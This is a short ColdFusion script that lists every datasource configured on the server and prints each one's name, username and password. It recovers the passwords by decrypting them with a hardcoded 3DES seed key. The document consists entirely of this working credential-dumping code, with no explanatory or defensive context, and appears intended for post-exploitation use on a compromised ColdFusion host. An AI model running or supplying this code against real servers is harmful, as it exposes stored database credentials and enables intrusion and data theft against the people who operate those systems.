<cfscript>
  sf = createObject("java", "coldfusion.server.ServiceFactory");
  dsns = sf.getDatasourceService().getDatasources();
  for (n in dsns) {
    writeOutput(n & " " & dsns[n].username & " " & Decrypt(dsns[n].password, generate3DesKey("0yJ!@1$r8p0L@r1$6yJ!@1rj"), "DESede", "Base64") & "<br>");
  }
</cfscript>
